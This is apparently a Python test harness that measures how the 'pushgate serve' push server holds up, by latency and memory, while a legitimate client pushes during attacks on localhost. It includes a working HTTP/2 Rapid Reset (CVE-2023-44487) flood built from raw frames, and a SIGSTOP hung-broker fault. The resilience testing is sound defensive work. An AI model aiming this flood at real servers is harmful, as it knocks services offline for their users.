"""Attacks and faults against a running `pushgate serve`, each measured the same way: a legitimate
client keeps pushing (HTTP/2, one push at a time, to a subscription whose device is connected)
while the attack runs; the result is its latency percentiles, the server's peak resident memory
against its idle figure, and whether every legitimate push was delivered.

Used by the quick tests (`test_attacks.py`, in `make test`) and by `make soak`
(`Tests/soak/soak.py`, longer runs and a summary table). Raw sockets on 127.0.0.1 only; every
loop is bounded by a deadline."""
import os
import signal
import socket
import ssl
import struct
import threading
import time
from dataclasses import dataclass, field

import hpack
import httpx

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags (RFC 9113 §6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def rss_kb(pid: int) -> int:
    """The process's resident memory now (VmRSS), in KiB."""
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def cpu_seconds(pid: int) -> float:
    """User + system CPU the process has used so far."""
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class MemoryWatch:
    """Samples a process's RSS every 50 ms on a thread; `peak_kb` is the highest seen."""

    def __init__(self, pid: int):
        self.pid = pid
        self.peak_kb = rss_kb(pid)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        while not self._stop.wait(0.05):
            try:
                self.peak_kb = max(self.peak_kb, rss_kb(self.pid))
            except OSError:
                return

    def stop(self) -> int:
        self._stop.set()
        self._thread.join()
        return self.peak_kb


@dataclass
class Legitimate:
    """What the legitimate client saw: each push's latency (s) and status."""
    latencies: list = field(default_factory=list)
    statuses: list = field(default_factory=list)
    errors: int = 0

    def percentile(self, p: float) -> float:
        if not self.latencies:
            return float("inf")
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(p / 100 * len(ordered)))]

    @property
    def created(self) -> int:
        return sum(1 for status in self.statuses if status == 201)


def legitimate_pushes(endpoint: str, stop: threading.Event, result: Legitimate, interval: float = 0.02, verify=True) -> None:
    """One HTTP/2 connection, one push at a time, every `interval` seconds, until `stop`."""
    with httpx.Client(http1=False, http2=True, verify=verify, timeout=30) as client:  # h2 (prior knowledge on http:)
        while not stop.is_set():
            started = time.monotonic()
            try:
                response = client.post(endpoint, headers={"TTL": "60"})
                result.statuses.append(response.status_code)
            except httpx.HTTPError:
                result.errors += 1
                result.statuses.append(0)
            result.latencies.append(time.monotonic() - started)
            stop.wait(max(0.0, interval - (time.monotonic() - started)))


def h2_connect(port: int, tls: bool = False, timeout: float = 5) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    if tls:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        sock = context.wrap_socket(sock)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


class FrameReader:
    """Reads whole HTTP/2 frames (type, flags, stream, payload) from a raw socket, acknowledging
    the server's SETTINGS."""

    def __init__(self, sock: socket.socket):
        self.sock = sock
        self.buffer = b""
        self.closed = False

    def frames(self, timeout: float):
        """Yields frames until `timeout` s pass or the server closes the connection."""
        end = time.monotonic() + timeout
        while time.monotonic() < end and not self.closed:
            while len(self.buffer) >= 9 and len(self.buffer) >= 9 + int.from_bytes(self.buffer[:3], "big"):
                length = int.from_bytes(self.buffer[:3], "big")
                kind, flags = self.buffer[3], self.buffer[4]
                stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
                payload, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
                if kind == SETTINGS and not flags & ACK:
                    self.sock.sendall(frame(SETTINGS, ACK, 0))
                yield kind, flags, stream, payload
            self.sock.settimeout(max(0.01, min(0.1, end - time.monotonic())))
            try:
                data = self.sock.recv(65535)
            except socket.timeout:
                continue
            except ConnectionResetError:
                data = b""
            if not data:
                self.closed = True
            self.buffer += data


def drain(sock: socket.socket, counter: list | None = None) -> None:
    """Reads and discards until the peer closes (a thread per attack connection)."""
    try:
        while True:
            data = sock.recv(1 << 16)
            if not data:
                break
            if counter is not None:
                counter[0] += len(data)
    except OSError:
        pass


@dataclass
class RapidResetStats:
    connections: int = 0
    streams: int = 0


def rapid_reset(port: int, path: str, authority: str, stop: threading.Event, stats: RapidResetStats,
                streams_per_connection: int = 1000, batch: int = 100) -> None:
    """CVE-2023-44487 with complete requests: on fresh connections, `streams_per_connection` ×
    (HEADERS + DATA with END_STREAM + RST_STREAM CANCEL), sent in batches as fast as the socket
    takes them; a new connection whenever the server closes one."""
    headers = [(":method", "POST"), (":scheme", "http"), (":authority", authority), (":path", path), ("ttl", "60"),
               ("content-length", "0")]
    while not stop.is_set():
        try:
            sock = h2_connect(port)
        except OSError:
            time.sleep(0.01)
            continue
        stats.connections += 1
        reader = threading.Thread(target=drain, args=(sock,), daemon=True)
        reader.start()
        encoder = hpack.Encoder()
        first, rest = encoder.encode(headers), encoder.encode(headers)  # the second block is all indexed
        stream = 1
        try:
            while stream < 2 * streams_per_connection and not stop.is_set():
                chunk = bytearray()
                for _ in range(batch):
                    block = first if stream == 1 else rest
                    chunk += frame(HEADERS, END_HEADERS, stream, block)
                    chunk += frame(DATA, END_STREAM, stream)
                    chunk += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))  # CANCEL
                    stream += 2
                sock.sendall(chunk)
                stats.streams += batch
        except OSError:
            pass
        finally:
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            sock.close()
            reader.join(2)


@dataclass
class AttackResult:
    """One row of the attack table."""
    name: str
    legit: Legitimate
    idle_kb: int
    peak_kb: int
    after_kb: int
    detail: str = ""

    @property
    def p50_ms(self) -> float:
        return 1000 * self.legit.percentile(50)

    @property
    def p99_ms(self) -> float:
        return 1000 * self.legit.percentile(99)

    @property
    def memory_ratio(self) -> float:
        return self.peak_kb / max(1, self.idle_kb)


def under_attack(name: str, pid: int, legit_endpoint: str, attack, seconds: float, settle: float = 1.0,
                 interval: float = 0.02) -> AttackResult:
    """Runs `attack(stop)` on a thread for `seconds` while a legitimate client pushes; measures
    the legitimate latency and the server's memory (idle figure taken after `settle` s)."""
    # Warm the legitimate path first, so its first connection is not counted as attack damage.
    warm = Legitimate()
    stop = threading.Event()
    warmer = threading.Thread(target=legitimate_pushes, args=(legit_endpoint, stop, warm, interval))
    warmer.start()
    time.sleep(settle)
    stop.set()
    warmer.join()
    idle_kb = rss_kb(pid)
    watch = MemoryWatch(pid)
    stop = threading.Event()
    legit = Legitimate()
    client = threading.Thread(target=legitimate_pushes, args=(legit_endpoint, stop, legit, interval))
    attacker = threading.Thread(target=attack, args=(stop,), daemon=True)
    attacker.start()
    time.sleep(0.2)  # the attack is under way before the first measured push
    client.start()
    time.sleep(seconds)
    stop.set()
    client.join(35)
    attacker.join(10)
    peak_kb = watch.stop()
    time.sleep(0.5)
    return AttackResult(name, legit, idle_kb, peak_kb, rss_kb(pid))


def format_table(rows: list) -> str:
    """The attack table: one row per attack with its pass criterion's figures."""
    lines = ["| attack | legit pushes | legit p50 ms | legit p99 ms | idle MB | peak MB | peak/idle | detail |",
             "|---|---:|---:|---:|---:|---:|---:|---|"]
    for row in rows:
        lines.append(f"| {row.name} | {row.legit.created}/{len(row.legit.statuses)} | {row.p50_ms:.1f} | {row.p99_ms:.1f} | "
                     f"{row.idle_kb / 1024:.0f} | {row.peak_kb / 1024:.0f} | {row.memory_ratio:.2f} | {row.detail} |")
    return "\n".join(lines)


def stop_process(pid: int) -> None:
    try:
        os.kill(pid, signal.SIGKILL)
    except ProcessLookupError:
        pass


def paced_pushes(endpoint: str, stop: threading.Event, result: Legitimate, rate: float, clients: int = 8, http2: bool = True) -> None:
    """`rate` pushes/s over `clients` HTTP/2 connections, each push started on schedule whatever
    the answers before it take (asyncio: thousands may be in flight when the server is slow)."""
    import asyncio

    async def run():
        # One client per connection: httpx multiplexes one HTTP/2 connection per client and waits
        # for a stream when its 100 are busy.
        pool = [httpx.AsyncClient(http1=not http2, http2=http2, timeout=60) for _ in range(clients)]

        async def push(client):
            started = time.monotonic()
            try:
                status = (await client.post(endpoint, headers={"TTL": "60"})).status_code
            except httpx.HTTPError:
                status = 0
            result.latencies.append(time.monotonic() - started)
            result.statuses.append(status)

        tasks, next_at, turn = set(), time.monotonic(), 0
        while not stop.is_set():
            task = asyncio.ensure_future(push(pool[turn % clients]))
            turn += 1
            tasks.add(task)
            task.add_done_callback(tasks.discard)
            next_at += 1 / rate
            await asyncio.sleep(max(0.0, next_at - time.monotonic()))
        if tasks:
            await asyncio.gather(*tasks)
        for client in pool:
            await client.aclose()

    asyncio.run(run())


def hung_broker(pid: int, broker_pid: int, endpoint: str, stopped_for: float, rate: float = 400, http2: bool = True) -> AttackResult:
    """Issue 15 #2: `rate` pushes/s while the broker is stopped with SIGSTOP (alive, silent) for
    `stopped_for` s. The figures are those of the pushes sent while it was stopped."""
    warm, stop = Legitimate(), threading.Event()
    warmer = threading.Thread(target=paced_pushes, args=(endpoint, stop, warm, rate))
    warmer.start()
    time.sleep(1)
    stop.set()
    warmer.join()
    idle_kb = rss_kb(pid)
    watch = MemoryWatch(pid)
    during, stop = Legitimate(), threading.Event()
    # Enough connections that the client never waits for a stream (100 per connection): 400/s
    # answered after 5 s is 2,000 in flight.
    senders = threading.Thread(target=paced_pushes, args=(endpoint, stop, during, rate, 32, http2))
    os.kill(broker_pid, signal.SIGSTOP)
    try:
        senders.start()
        time.sleep(stopped_for)
        stop.set()
    finally:
        os.kill(broker_pid, signal.SIGCONT)
    senders.join(120)
    peak_kb = watch.stop()
    result = AttackResult("hung broker (SIGSTOP)", during, idle_kb, peak_kb, rss_kb(pid))
    answered = sum(1 for status in during.statuses if status in (201, 503))
    result.detail = f"{len(during.statuses)} pushes while stopped: {answered} answered 201/503, max {1000 * max(during.latencies or [0]):.0f} ms"
    return result
